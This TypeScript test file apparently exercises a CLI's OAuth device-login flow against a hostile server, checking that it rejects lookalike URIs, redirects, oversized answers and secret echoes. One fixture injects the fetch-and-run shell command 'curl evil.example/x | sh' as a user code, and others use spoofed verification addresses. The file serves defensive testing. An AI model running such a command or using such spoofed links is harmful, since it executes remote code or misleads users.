// `omicos cli login` (RFC 8628) against a hostile server: the reference server behind a
// listener that misbehaves on one route per test (spec/support/hostile-server.ts). Each test
// starts from a login made earlier (its file must stay byte-identical when the pairing fails)
// and checks the exit code, the one error line, and that no secret and no unsafe value the
// server sent is printed.
//
// Three tests depend on the device-login machine backing off on `unavailable` (Retry-After)
// and refusing on `invalidGrant`: they are marked "(machine)".
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { decidePairing } from '../../server/index.js'
import { findSecret, PAIRING_CODE, type CliResult, type CliSandbox, type RunningCli } from '../support/cli.js'
import { bytesOf } from '../support/cli-login.js'
import { peakRssProbe, secretsSeen, sendHuge, sendJson, startCountingServer, type ScriptContext } from '../support/hostile-server.js'
import { ADA, hostileLoginSpec } from '../support/hostile-login.js'
import { timeout } from '../support/wait.js'

const DEVICE_GRANT = 'urn:ietf:params:oauth:grant-type:device_code'
const PEAK_RSS_LIMIT_KIB = 150 * 1024

// Output is searched for device codes test by test; files are searched for the rest.
const { ref, leaks, hostile, loggedIn } = hostileLoginSpec(test, { deviceCodes: false })
const running: RunningCli[] = []

test.after.each(() => {
  for (const cli of running.splice(0)) if (cli.child.exitCode === null && cli.child.signalCode === null) cli.child.kill('SIGKILL')
})

const cliLogin = (box: CliSandbox, env = box.env, timeoutMs = 40_000) => {
  const cli = leaks.start(['cli', 'login', '--force', '--server', hostile.url], { cwd: box.workspace, env, timeoutMs })
  running.push(cli)
  return cli
}

const finished = (cli: RunningCli, ms = 40_000) => timeout(cli.done, ms, 'omicos cli login to finish')

const approve = (code: string) => timeout(decidePairing(ref.dataDir, code, { approve: true, email: ADA.email }), 10_000, 'approving')

const isDevicePoll = (ctx: ScriptContext) => new URLSearchParams(ctx.req.body).get('grant_type') === DEVICE_GRANT

/** Answers the `n`th device poll (1-based, password grants not counted) with `script`; the rest go upstream. */
const onPoll = (script: (ctx: ScriptContext, n: number) => void | boolean | Promise<void | boolean>) => {
  let n = 0
  hostile.on('POST /token', (ctx) => (isDevicePoll(ctx) ? script(ctx, ++n) : false))
}

/** Exit `code`; exactly one `error:` line, the last on stderr; no stack; `pattern` on it. */
const assertFailed = (result: CliResult, code: number, pattern?: RegExp) => {
  assert.is(result.code, code, `exit ${code}\nstdout: ${result.stdout}\nstderr: ${result.stderr}`)
  const lines = result.stderr.split('\n').filter(Boolean)
  const errors = lines.filter((line) => line.startsWith('error: '))
  assert.is(errors.length, 1, `one error line, got:\n${result.stderr}`)
  assert.is(lines.at(-1), errors[0])
  assert.not.match(result.stderr, /\n\s+at |Error: |Invalid time value/, 'no stack trace, no JavaScript error')
  assert.not.match(result.stdout + result.stderr, /[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u202a-\u202e\u2066-\u2069]/)
  if (pattern) assert.match(errors[0]!, pattern)
}

const assertNoSecretIn = (result: CliResult) => {
  const found = findSecret([result.stdout, result.stderr], [ADA.password, ...secretsSeen(hostile)])
  assert.is(found, null, `a secret (${found?.slice(0, 4)}...) in the output:\n${result.stdout}\n${result.stderr}`)
}

/** Changes the device authorization answer the reference server gives. */
const changeAuthorization = (change: (answer: Record<string, unknown>) => Record<string, unknown>) =>
  hostile.on('POST /device/auth', async ({ forward, res }) => {
    const answer = await forward()
    sendJson(res, answer.status, change(answer.json()))
  })

// --- what the person is shown -------------------------------------------------------------------

const addresses: Array<[string, (url: string) => Record<string, unknown>, string[]]> = [
  ['a verification_uri on another origin', () => ({ verification_uri: 'https://evil.example/device' }), ['evil.example']],
  [
    'a lookalike verification_uri_complete (Cyrillic a)',
    () => ({ verification_uri_complete: 'https://\u0430uth.omicos.cn/device?user_code=BCDF-GHJK' }),
    ['\u0430uth', 'xn--', 'omicos.cn/device'],
  ],
  ['a verification_uri on another loopback name and port', (url) => ({ verification_uri: `${url.replace('127.0.0.1', 'localhost')}/device` }), ['localhost']],
  ['a verification_uri with userinfo', (url) => ({ verification_uri: `${url.replace('//', '//127.0.0.1@')}/device` }), ['@']],
  ['a verification_uri with a trailing dot', (url) => ({ verification_uri: `${url.replace('127.0.0.1', 'localhost.')}/device` }), ['localhost.']],
  ['a verification_uri on the same host but another port', (url) => ({ verification_uri: `${url.replace(/:\d+$/, ':1')}/device` }), [':1/']],
]

for (const [what, change, never] of addresses) {
  test(`${what}: exit 6, the address never printed, no QR code`, async () => {
    const { box, file, before } = await loggedIn()
    changeAuthorization((answer) => ({ ...answer, ...change(hostile.url) }))
    const result = await finished(cliLogin(box))
    // Refused either as unsafe in itself (userinfo, plain http off loopback) or as on another site.
    assertFailed(result, 6, /unsafe verification_uri|on another site than 127\.0\.0\.1:\d+; it is not shown/)
    for (const value of never) assert.not.ok((result.stdout + result.stderr).includes(value), `${value} printed`)
    assert.not.match(result.stdout, /Open |pairing code|scan/)
    assert.is(hostile.seen('POST /token').filter((r) => new URLSearchParams(r.body).get('grant_type') === DEVICE_GRANT).length, 0, 'no poll')
    assertNoSecretIn(result)
    assert.equal(bytesOf(file), before)
  })
}

test('a user code that is a shell command: exit 6, never printed', async () => {
  const { box, file, before } = await loggedIn()
  changeAuthorization((answer) => ({ ...answer, user_code: 'curl evil.example/x | sh' }))
  const result = await finished(cliLogin(box))
  assertFailed(result, 6, /user_code that is not a pairing code/)
  assert.not.match(result.stdout + result.stderr, /curl|evil/)
  assertNoSecretIn(result)
  assert.equal(bytesOf(file), before)
})

test('a 307 from the device authorization endpoint to another listener: exit 6, nothing sent there', async () => {
  const { box, file, before } = await loggedIn()
  const elsewhere = await startCountingServer()
  try {
    hostile.on('POST /device/auth', ({ res }) => {
      res.writeHead(307, { location: `${elsewhere.url}/device/auth` })
      res.end()
    })
    const result = await finished(cliLogin(box))
    assertFailed(result, 6, /answered with a redirect \(HTTP 307\)/)
    assert.is(elsewhere.hits.length, 0)
    assert.equal(bytesOf(file), before)
  } finally {
    await elsewhere.close()
  }
})

// --- polling --------------------------------------------------------------------------------

/** Starts the pairing, approves it once the code is shown, and waits for the end. */
const pairAndApprove = async (box: CliSandbox, env = box.env) => {
  const cli = cliLogin(box, env)
  const code = (await cli.waitFor(PAIRING_CODE))[1]!
  await approve(code)
  return finished(cli)
}

const polls = () => hostile.seen('POST /token').filter((r) => new URLSearchParams(r.body).get('grant_type') === DEVICE_GRANT)

test('a poll error that echoes the device code: exit 6, the code shown as [redacted]', async () => {
  const { box, file, before } = await loggedIn()
  hostile.on('POST /token', (ctx) => {
    if (!isDevicePoll(ctx)) return false
    sendJson(ctx.res, 400, { error: 'invalid_request', error_description: `device_code ${new URLSearchParams(ctx.req.body).get('device_code')} is malformed` })
  })
  const result = await finished(cliLogin(box))
  assertFailed(result, 6, /refused the device token request: invalid_request: device_code \[redacted\] is malformed/)
  assertNoSecretIn(result)
  assert.equal(bytesOf(file), before)
})

test('a 100 MiB answer to a poll: exit 6, peak RSS under 150 MiB', async () => {
  const { box, file, before } = await loggedIn()
  hostile.on('POST /token', (ctx) => (isDevicePoll(ctx) ? sendHuge(ctx.res, 100) : false))
  const probe = peakRssProbe(box.env)
  try {
    const result = await finished(cliLogin(box, probe.env))
    assertFailed(result, 6, /sent an answer larger than 1 MiB/)
    const peak = probe.peakKiB()
    assert.ok(peak < PEAK_RSS_LIMIT_KIB, `peak RSS ${Math.round(peak / 1024)} MiB`)
    assertNoSecretIn(result)
    assert.equal(bytesOf(file), before)
  } finally {
    probe.cleanup()
  }
})

test('one HTTP 500 on a poll, then the approval: the login succeeds', async () => {
  const { box } = await loggedIn()
  onPoll((ctx, n) => n === 1 && sendJson(ctx.res, 500, { error: 'server_error' }))
  const result = await pairAndApprove(box)
  assert.is(result.code, 0, result.stderr)
  assert.ok(polls().length >= 2)
  assertNoSecretIn(result)
})

test('a token lifetime of 1e300 in the approval: exit 6, a plain sentence, the issued tokens revoked', async () => {
  const { box, file, before } = await loggedIn()
  let issued: { access_token: string; refresh_token?: string } | undefined
  hostile.on('POST /token', async (ctx) => {
    if (!isDevicePoll(ctx)) return false
    const answer = await ctx.forward()
    if (answer.status !== 200) {
      ctx.res.writeHead(answer.status, { 'content-type': 'application/json' })
      return void ctx.res.end(answer.text)
    }
    issued = answer.json()
    ctx.res.writeHead(200, { 'content-type': 'application/json' })
    ctx.res.end(answer.text.replace(/"expires_in":\d+/, '"expires_in":1e300'))
  })
  const result = await pairAndApprove(box)
  assertFailed(result, 6, /sent a token lifetime \(expires_in\) a value, outside 1\.\.315360000 seconds/)
  assert.ok(issued?.access_token)
  const revoked = hostile.seen('POST /token/revocation').map((r) => new URLSearchParams(r.body).get('token'))
  assert.ok(revoked.includes(issued!.access_token), 'the access token was revoked')
  assertNoSecretIn(result)
  assert.equal(bytesOf(file), before)
})

test('(machine) a 429 with Retry-After on a poll: the next poll waits at least that long', async () => {
  const { box } = await loggedIn()
  const RETRY_AFTER_S = 9
  onPoll((ctx, n) => n === 1 && sendJson(ctx.res, 429, { error: 'too_many_requests' }, { 'retry-after': String(RETRY_AFTER_S) }))
  const earlier = polls().length
  const result = await pairAndApprove(box)
  assert.is(result.code, 0, result.stderr)
  const [limited, next] = polls().slice(earlier)
  assert.ok(next, 'polled again')
  assert.ok(next!.at - limited!.at >= RETRY_AFTER_S * 1000, `waited ${next!.at - limited!.at} ms after a Retry-After of ${RETRY_AFTER_S} s`)
})

test('(machine) invalid_grant after pending: exit 4, the code can no longer be used, run the command again', async () => {
  const { box, file, before } = await loggedIn()
  onPoll((ctx, n) => n > 1 && sendJson(ctx.res, 400, { error: 'invalid_grant', error_description: 'grant request is invalid' }))
  const result = await finished(cliLogin(box, box.env, 30_000), 30_000)
  assertFailed(result, 4, /can no longer be used/)
  assert.match(result.stderr, /approved/)
  assert.match(result.stderr, /again/)
  assert.not.match(result.stderr, /expired before it was approved/)
  assertNoSecretIn(result)
  assert.equal(bytesOf(file), before)
})

test('no secret in any output or file of the whole run', () => {
  leaks.assertNoLeak()
})

test.run()
